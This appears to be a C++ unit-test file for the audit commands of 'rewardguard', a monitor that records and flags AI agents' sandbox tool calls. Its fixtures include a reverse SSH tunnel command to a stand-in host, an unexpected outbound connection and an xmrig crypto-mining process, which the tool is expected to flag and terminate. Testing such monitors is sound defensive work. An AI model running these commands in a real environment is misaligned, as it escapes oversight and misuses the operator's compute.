#include "rewardguard/cli/audit_commands.h"

#include <sqlite3.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <tuple>

#include "fmt/format.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "rewardguard/audit/replay.h"
#include "rewardguard/cli/commands.h"
#include "audit/test_util.h"

namespace rewardguard {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;
using testing::TempDir;

constexpr char kWeek1[] = R"({"tool":"shell","arguments":"ls -la","env":0,"episode":1,"step":1}
{"tool":"read_file","arguments":{"path":"src/a.py"},"env":0,"episode":1,"step":2}
{"type":"net.connect","host":"203.0.113.5","port":443,"env":0,"episode":1,"step":3}
{"tool":"shell","arguments":"pytest -q","env":1,"episode":1,"step":1}
)";

constexpr char kWeek2[] = R"({"tool":"shell","arguments":"ls -la","env":0,"episode":1,"step":1}
{"tool":"shell","arguments":"ssh -fNR 9000:localhost:22 a@203.0.113.5","env":0,"episode":1,"step":2}
{"type":"net.connect","host":"203.0.113.5","port":22,"env":1,"episode":4,"step":3}
{"type":"gpu.sample","device":0,"utilization":97,"process":"xmrig","pid":123,"env":1,"episode":4,"step":4}
)";

// Two recorded runs, as `rewardguard eval --audit DB --run NAME` makes them.
class AuditCommands : public ::testing::Test {
 protected:
  void SetUp() override {
    db_ = dir_.File("audit.db");
    for (auto [name, input] : {std::pair{"week-1", kWeek1}, std::pair{"week-2", kWeek2}}) {
      EvalCommandOptions options;
      options.audit_path = db_;
      options.run_name = name;
      std::istringstream in(input);
      std::ostringstream out, err;
      ASSERT_EQ(RunEval(options, in, out, err), 0) << err.str();
      verdicts_.push_back(out.str());
    }
  }

  TempDir dir_;
  std::string db_;
  std::vector<std::string> verdicts_;
};

TEST_F(AuditCommands, EvalJudgesObservationLines) {
  EXPECT_THAT(verdicts_[1], HasSubstr("sandbox saw an outbound tcp connection to 203.0.113.5 port 22"));
  EXPECT_THAT(verdicts_[1], HasSubstr(R"("rules":["gpu-outside-job","crypto-mining"])"));
  EXPECT_THAT(verdicts_[1], Not(HasSubstr("error")));
  auto reader = AuditReader::Open(db_);
  ASSERT_TRUE(reader.ok());
  auto records = reader->ReadRecords(reader->FindRuns("week-2")->front());
  ASSERT_EQ(records->size(), 4u);
  EXPECT_EQ((*records)[2].kind, EventKind::kObservation);
  EXPECT_EQ((*records)[2].tool, "sandbox");
  EXPECT_EQ((*records)[2].env, 1);
  EXPECT_EQ((*records)[2].episode, 4);
  EXPECT_EQ((*records)[2].step, 3);
  EXPECT_EQ((*records)[3].action, Action::kTerminate);
  EXPECT_EQ(reader->Runs()->front().policy_name, "coding-sandbox");
}

TEST_F(AuditCommands, Summary) {
  std::ostringstream out, err;
  ASSERT_EQ(RunAuditSummary({.db = db_}, out, err), 0) << err.str();
  const std::string s = out.str();
  EXPECT_THAT(s, HasSubstr("2 runs, 8 events, 4 violations"));
  EXPECT_THAT(s, ::testing::ContainsRegex(R"(egress-allowlist +3 +2 +13\.00)"));
  EXPECT_THAT(s, ::testing::ContainsRegex(R"(crypto-mining +1 +1 +12\.00)"));
  EXPECT_THAT(s, ::testing::ContainsRegex(R"(network +3 +2 +13\.00)"));
  EXPECT_THAT(s, ::testing::ContainsRegex(R"(compute +1 +1 +12\.00)"));
  // The worst episode first: week-2, env 1, episode 4, first violation at step 3.
  const size_t top = s.find("top offending episodes");
  ASSERT_NE(top, std::string::npos);
  std::istringstream lines(s.substr(top));
  std::vector<std::string> rows;
  for (std::string line; std::getline(lines, line);) rows.push_back(line);
  ASSERT_EQ(rows.size(), 5u);  // title, header, three episodes
  EXPECT_THAT(rows[2], ::testing::MatchesRegex(R"( +week-2 +1 +4 +2 +13\.00 +3 +terminate +crypto-mining)"));
  EXPECT_THAT(rows[3], ::testing::MatchesRegex(R"( +week-2 +0 +1 +1 +11\.00 +2 +terminate +tunnel)"));
  EXPECT_THAT(rows[4], ::testing::MatchesRegex(R"( +week-1 +0 +1 +1 +1\.00 +3 +block +egress-allowlist)"));
  EXPECT_THAT(s, Not(HasSubstr("run-programs")));  // allow rules are not violations

  std::ostringstream one;
  ASSERT_EQ(RunAuditSummary({.db = db_, .run = "week-1"}, one, err), 0);
  EXPECT_THAT(one.str(), HasSubstr("1 runs, 4 events, 1 violations"));
}

TEST_F(AuditCommands, DiffShowsWhatIsNewOrGrew) {
  std::ostringstream out, err;
  ASSERT_EQ(RunAuditDiff({.db = db_, .base = "week-1", .head = "week-2"}, out, err), 0)
      << err.str();
  const std::string s = out.str();
  EXPECT_THAT(s, HasSubstr("base `week-1` (4 events) -> head `week-2` (4 events)"));
  EXPECT_THAT(s, ::testing::ContainsRegex(R"(net\.tunnel +0 +0\.0 +1 +250\.0  new)"));
  EXPECT_THAT(s, ::testing::ContainsRegex(R"(compute\.mining +0 +0\.0 +1 +250\.0  new)"));
  EXPECT_THAT(s, ::testing::ContainsRegex(R"(sandbox +1 +250\.0 +2 +500\.0  \+250\.0)"));
  EXPECT_THAT(s, ::testing::ContainsRegex(R"(tunnel +0 +0\.0 +1 +250\.0  new)"));
  // fs.read and read_file only happened in the base run: not listed.
  EXPECT_THAT(s, Not(HasSubstr("fs.read")));
  EXPECT_THAT(s, Not(HasSubstr("read_file")));
  // The other way round, nothing about mining is new.
  std::ostringstream back;
  ASSERT_EQ(RunAuditDiff({.db = db_, .base = "week-2", .head = "week-1"}, back, err), 0);
  EXPECT_THAT(back.str(), Not(HasSubstr("mining")));
  EXPECT_THAT(back.str(), ::testing::ContainsRegex(R"(fs\.read +0 +0\.0 +1 +250\.0  new)"));

  std::ostringstream missing, missing_err;
  EXPECT_EQ(RunAuditDiff({.db = db_, .base = "week-1", .head = "week-9"}, missing, missing_err), 2);
  EXPECT_THAT(missing_err.str(), HasSubstr("no run named `week-9`"));
}

TEST_F(AuditCommands, ExportJsonlAndCsv) {
  std::ostringstream jsonl, err;
  ASSERT_EQ(RunAuditExport({.db = db_, .format = "jsonl", .run = "week-2"}, jsonl, err), 0);
  std::vector<std::string> lines;
  std::istringstream split(jsonl.str());
  for (std::string line; std::getline(split, line);) lines.push_back(line);
  ASSERT_EQ(lines.size(), 4u);
  EXPECT_THAT(lines[1], HasSubstr(R"("run":"week-2")"));
  EXPECT_THAT(lines[1], HasSubstr(R"("action":"terminate","penalty":11)"));
  EXPECT_THAT(lines[1], HasSubstr(R"({"id":"tunnel","action":"terminate"})"));
  EXPECT_THAT(lines[1], HasSubstr(R"("capabilities":["shell.exec","net.egress.ssh","net.tunnel"])"));
  EXPECT_THAT(lines[2], HasSubstr(R"("kind":"observation","tool":"sandbox")"));
  EXPECT_THAT(lines[2], HasSubstr(R"("reward_before":null)"));

  std::ostringstream csv;
  ASSERT_EQ(RunAuditExport({.db = db_, .format = "csv"}, csv, err), 0);
  std::istringstream rows(csv.str());
  std::string header;
  std::getline(rows, header);
  EXPECT_EQ(header, "run,run_id,env,episode,step,kind,tool,action,penalty,rules,capabilities,"
                    "costs,reason,reward_before,reward_after,ts_us,arguments\r");
  int n = 0;
  for (std::string row; std::getline(rows, row);) ++n;
  EXPECT_EQ(n, 8);
  EXPECT_THAT(csv.str(), HasSubstr("week-1,1,0,1,2,call,read_file,allow,0,workspace:allow,fs.read,"));
  EXPECT_THAT(csv.str(), HasSubstr(R"("{""path"":""src/a.py""}")"));

  std::ostringstream bad, bad_err;
  EXPECT_EQ(RunAuditExport({.db = db_, .format = "xml"}, bad, bad_err), 2);
  EXPECT_EQ(RunAuditExport({.db = dir_.File("none.db"), .format = "csv"}, bad, bad_err), 2);
  EXPECT_THAT(bad_err.str(), HasSubstr("cannot open audit database"));
}

// Records a run of `input` into `db` as `rewardguard eval --audit` does.
void Record(const std::string& db, const std::string& run, const std::string& input) {
  EvalCommandOptions options;
  options.audit_path = db;
  options.run_name = run;
  std::istringstream in(input);
  std::ostringstream out, err;
  ASSERT_EQ(RunEval(options, in, out, err), 0) << err.str();
}

// A record without its run id, to compare copies.
std::string Key(const DecisionRecord& r) {
  std::string rules, costs;
  for (const FiredRule& f : r.rules) rules += f.id + ":" + std::string(ActionName(f.action)) + ";";
  for (const auto& [c, v] : r.costs) costs += c + "=" + std::to_string(v) + ";";
  return fmt::format("{}/{}/{}/{}/{}/{}/{}/{}/{}/{}/{}", r.env, r.episode, r.step,
                     EventKindName(r.kind), r.tool, r.arguments, ActionName(r.action), r.penalty,
                     rules, costs, r.timestamp_us);
}

std::vector<std::string> Keys(const AuditReader& reader, int64_t run) {
  std::vector<std::string> keys;
  absl::StatusOr<std::vector<DecisionRecord>> records = reader.ReadRecords(run);
  EXPECT_TRUE(records.ok()) << records.status();
  if (records.ok())
    for (const DecisionRecord& r : records.value()) keys.push_back(Key(r));
  return keys;
}

int64_t Count(const std::string& db, const char* sql) {
  sqlite3* h = nullptr;
  EXPECT_EQ(sqlite3_open_v2(db.c_str(), &h, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
  sqlite3_stmt* stmt = nullptr;
  EXPECT_EQ(sqlite3_prepare_v2(h, sql, -1, &stmt, nullptr), SQLITE_OK) << sqlite3_errmsg(h);
  int64_t n = sqlite3_step(stmt) == SQLITE_ROW ? sqlite3_column_int64(stmt, 0) : -1;
  sqlite3_finalize(stmt);
  sqlite3_close(h);
  return n;
}

TEST_F(AuditCommands, MergeKeepsEveryRunAndRecord) {
  // A second worker's database: its run ids start at 1 too, and one name repeats.
  const std::string other = dir_.File("worker-1.db");
  Record(other, "week-1", kWeek2);
  Record(other, "week-3", kWeek1);
  const std::string merged = dir_.File("merged.db");
  std::ostringstream out, err;
  ASSERT_EQ(RunAuditMerge({.out = merged, .inputs = {db_, other}}, out, err), 0) << err.str();
  EXPECT_EQ(out.str(), fmt::format("merged 2 databases into `{}`: 4 runs, 16 events (8 flagged)\n",
                                   merged));

  auto a = AuditReader::Open(db_);
  auto b = AuditReader::Open(other);
  auto m = AuditReader::Open(merged);
  ASSERT_TRUE(m.ok()) << m.status();
  auto runs = m->Runs();
  ASSERT_EQ(runs->size(), 4u);
  const std::vector<std::string> names = {"week-1", "week-2", "week-1", "week-3"};
  std::vector<std::vector<std::string>> expected = {Keys(*a, 1), Keys(*a, 2), Keys(*b, 1), Keys(*b, 2)};
  std::vector<RunRow> source_runs = a->Runs().value();
  const std::vector<RunRow> b_runs = b->Runs().value();
  source_runs.insert(source_runs.end(), b_runs.begin(), b_runs.end());
  for (size_t i = 0; i < 4; ++i) {
    const RunRow& r = (*runs)[i];
    EXPECT_EQ(r.id, static_cast<int64_t>(i + 1));
    EXPECT_EQ(r.name, names[i]);
    EXPECT_EQ(r.events, 4);
    EXPECT_EQ(r.violations, source_runs[i].violations);
    EXPECT_EQ(r.penalty, source_runs[i].penalty);
    EXPECT_EQ(r.policy_sha256, source_runs[i].policy_sha256);
    EXPECT_EQ(r.started_at_us, source_runs[i].started_at_us);
    EXPECT_EQ(r.ended_at_us, source_runs[i].ended_at_us);
    EXPECT_EQ(Keys(*m, r.id), expected[i]) << "run " << r.id;
  }
  // Flagged rows still point at their events (ids follow the renumbered blocks).
  EXPECT_EQ(Count(merged, "SELECT count(*) FROM flagged_events"), 8);
  EXPECT_EQ(Count(merged, "SELECT count(*) FROM flagged_events f JOIN events e "
                          "ON e.id = f.event_id AND e.run_id = f.run_id AND e.step = f.step "
                          "AND e.arguments = f.arguments"),
            8);
  std::ostringstream summary;
  ASSERT_EQ(RunAuditSummary({.db = merged, .run = "week-1"}, summary, err), 0);
  EXPECT_THAT(summary.str(), HasSubstr("2 runs, 8 events, 4 violations"));

  // Into an existing database: its runs stay, runs it already holds (merged
  // before) are skipped, the new ones follow.
  const std::string third = dir_.File("worker-2.db");
  Record(third, "week-4", kWeek2);
  std::ostringstream again;
  ASSERT_EQ(RunAuditMerge({.out = merged, .inputs = {other, third}}, again, err), 0) << err.str();
  const int64_t third_flagged = Count(third, "SELECT count(*) FROM flagged_events");
  EXPECT_EQ(again.str(), fmt::format("merged 2 databases into `{}`: 1 runs, 4 events ({} flagged); "
                                     "2 runs already in the output skipped\n", merged, third_flagged));
  auto grown = AuditReader::Open(merged);
  auto all = grown->Runs();
  ASSERT_EQ(all->size(), 5u);
  EXPECT_EQ((*all)[4].id, 5);
  EXPECT_EQ((*all)[4].name, "week-4");
  EXPECT_EQ(Keys(*grown, 5), Keys(*AuditReader::Open(third), 1));
  EXPECT_EQ(Keys(*grown, 1), expected[0]);
  EXPECT_EQ(Keys(*grown, 4), expected[3]);
  EXPECT_EQ(Count(merged, "SELECT count(*) FROM flagged_events"), 8 + third_flagged);
  // Merged into another output together with a database it was merged into: once each.
  const std::string again_out = dir_.File("again.db");
  ASSERT_EQ(RunAuditMerge({.out = again_out, .inputs = {db_, merged}}, again, err), 0) << err.str();
  EXPECT_EQ(AuditReader::Open(again_out)->Runs()->size(), 5u);
}

std::string Bytes(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

TEST_F(AuditCommands, MergeLeavesAnOutputOfAnotherKindUntouched) {
  // An SQLite database of something else, then an audit database of another version.
  const std::string notes = dir_.File("notes.db");
  sqlite3* h = nullptr;
  ASSERT_EQ(sqlite3_open(notes.c_str(), &h), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(h, "CREATE TABLE notes(text TEXT); INSERT INTO notes VALUES('keep me')",
                         nullptr, nullptr, nullptr),
            SQLITE_OK);
  sqlite3_close(h);
  const std::string old_db = dir_.File("old.db");
  Record(old_db, "old", kWeek1);
  ASSERT_EQ(sqlite3_open(old_db.c_str(), &h), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(h, "PRAGMA journal_mode=DELETE; UPDATE meta SET value = '2' "
                         "WHERE key = 'schema_version'", nullptr, nullptr, nullptr),
            SQLITE_OK);
  sqlite3_close(h);
  for (auto [path, why] : {std::pair{notes, fmt::format("the output: `{}` is not a rewardguard "
                                                        "audit database", notes)},
                           std::pair{old_db, fmt::format("the output: audit database `{}` has "
                                                         "schema version `2`", old_db)}}) {
    const std::string before = Bytes(path);
    std::ostringstream out, err;
    EXPECT_EQ(RunAuditMerge({.out = path, .inputs = {db_}}, out, err), 2);
    EXPECT_THAT(err.str(), HasSubstr(why));
    EXPECT_EQ(Bytes(path), before) << path;                       // not a byte written
    EXPECT_FALSE(std::filesystem::exists(path + "-wal")) << path;  // nor switched to WAL
  }
}

TEST_F(AuditCommands, MergeIsOneTransaction) {
  // The second input fails while it is copied (its flagged_events table is
  // gone): nothing of the first input stays, so the merge can simply be rerun.
  const std::string broken = dir_.File("broken.db");
  Record(broken, "broken", kWeek2);
  sqlite3* h = nullptr;
  ASSERT_EQ(sqlite3_open(broken.c_str(), &h), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(h, "DROP TABLE flagged_events", nullptr, nullptr, nullptr), SQLITE_OK);
  sqlite3_close(h);
  const std::string first = dir_.File("first.db");
  Record(first, "first", kWeek1);
  const std::string merged = dir_.File("merged.db");
  std::ostringstream out, err;
  ASSERT_EQ(RunAuditMerge({.out = merged, .inputs = {first}}, out, err), 0) << err.str();

  EXPECT_EQ(RunAuditMerge({.out = merged, .inputs = {db_, broken}}, out, err), 2);
  EXPECT_THAT(err.str(), HasSubstr("flagged_events"));
  EXPECT_EQ(AuditReader::Open(merged)->Runs()->size(), 1u);       // db_'s two runs are not there
  const std::string fresh = dir_.File("fresh.db");
  EXPECT_EQ(RunAuditMerge({.out = fresh, .inputs = {db_, broken}}, out, err), 2);
  EXPECT_FALSE(std::filesystem::exists(fresh));                   // a created output is removed
}

TEST_F(AuditCommands, MergeRefusesOtherSchemaVersionsAndBadInputs) {
  const std::string old_db = dir_.File("old.db");
  Record(old_db, "old", kWeek1);
  sqlite3* h = nullptr;
  ASSERT_EQ(sqlite3_open(old_db.c_str(), &h), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(h, "UPDATE meta SET value = '2' WHERE key = 'schema_version'", nullptr,
                         nullptr, nullptr),
            SQLITE_OK);
  sqlite3_close(h);
  const std::string merged = dir_.File("merged.db");
  auto merge = [&](std::vector<std::string> inputs, std::string out_path = "") {
    std::ostringstream out, err;
    int rc = RunAuditMerge({.out = out_path.empty() ? merged : out_path, .inputs = inputs}, out, err);
    return std::pair{rc, err.str()};
  };
  // The bad input comes second: nothing of the first is written either.
  auto [rc, err] = merge({db_, old_db});
  EXPECT_EQ(rc, 2);
  EXPECT_THAT(err, HasSubstr(fmt::format("audit database `{}` has schema version `2`; this build "
                                         "reads version 3", old_db)));
  EXPECT_FALSE(std::filesystem::exists(merged));

  std::tie(rc, err) = merge({db_, dir_.File("missing.db")});
  EXPECT_EQ(rc, 2);
  EXPECT_THAT(err, HasSubstr("cannot open audit database"));
  const std::string text = dir_.File("notes.txt");
  { std::ofstream(text) << "not a database at all, just some text that is long enough\n"; }
  std::tie(rc, err) = merge({text});
  EXPECT_EQ(rc, 2);
  EXPECT_THAT(err, HasSubstr("notes.txt"));
  std::tie(rc, err) = merge({});
  EXPECT_EQ(rc, 2);
  EXPECT_THAT(err, HasSubstr("needs input databases"));
  std::tie(rc, err) = merge({db_, dir_.File("./audit.db")});
  EXPECT_EQ(rc, 2);
  EXPECT_THAT(err, HasSubstr("is given twice"));
  std::tie(rc, err) = merge({db_}, db_);
  EXPECT_EQ(rc, 2);
  EXPECT_THAT(err, HasSubstr("cannot be merged into itself"));
  EXPECT_FALSE(std::filesystem::exists(merged));
  EXPECT_EQ(AuditReader::Open(db_)->Runs()->size(), 2u);  // untouched
}

TEST(AuditEval, UnwritableAuditDatabaseExits3) {
  EvalCommandOptions options;
  options.audit_path = "/nonexistent-dir/audit.db";
  std::istringstream in("");
  std::ostringstream out, err;
  EXPECT_EQ(RunEval(options, in, out, err), 3);
  EXPECT_THAT(err.str(), HasSubstr("/nonexistent-dir/audit.db"));
}

}  // namespace
}  // namespace rewardguard
